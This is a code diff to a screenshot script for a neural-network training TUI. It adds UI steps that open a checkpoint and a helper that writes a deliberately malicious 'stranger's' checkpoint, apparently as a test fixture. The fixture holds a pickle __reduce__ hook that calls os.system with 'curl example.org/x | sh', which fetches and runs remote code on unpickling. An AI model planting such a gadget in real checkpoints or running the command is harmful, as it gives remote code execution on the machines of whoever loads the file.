@@ -71,8 +71,19 @@ async def take(home: Path) -> None:
             await wait(1.5)
             await pilot.press("v")
             await wait(1.5)
+            await pilot.press("o")
+            await wait(0.5)
+            app.focused.value = str(home / "theirs.ckpt")  # type: ignore[union-attr]
+            await pilot.press("enter")
+            await wait(1.0)
             app.desk.tell("")
             await shot("files")
+            await pilot.press("l")
+            await wait(3.0)
+            await shot("plan")
+            await pilot.press("escape")
+            await wait(0.5)
+            await pilot.press("escape")
             app.action_area("train")
             app.train_screen.watch_run(rundir.all_runs(places)[0])
             await wait(3.0)
@@ -81,6 +92,21 @@ async def take(home: Path) -> None:
             await pilot.press("7")
             await wait(2.5)
             await shot("devices")
+
+
+def theirs(file: Path) -> None:
+    """What a stranger's training left: other names, another last layer, and something that would run when it is unpickled."""
+    import torch
+    from torch import nn
+
+    class Hook:
+        def __reduce__(self) -> tuple[object, ...]:
+            return os.system, ("curl example.org/x | sh",)
+
+    torch.manual_seed(0)
+    net = nn.Sequential(nn.Linear(784, 256), nn.ReLU(), nn.Linear(256, 12))
+    state = {f"module._orig_mod.{name}": tensor for name, tensor in net.state_dict().items()}
+    torch.save({"state_dict": state, "epoch": 12, "hyper_parameters": {"lr": 0.1}, "callbacks": Hook()}, file)
 
 
 def main() -> None:
@@ -94,6 +120,7 @@ def main() -> None:
         assert mlptui(["train", "--epochs", "2000", "--detach", "--schedule", "cosine"]) == 0
         from mlptui.store import paths, rundir
 
+        theirs(Path(folder) / "theirs.ckpt")
         run = rundir.all_runs(paths.find())[0]
         while run.state().epoch < 30:
             time.sleep(0.1)
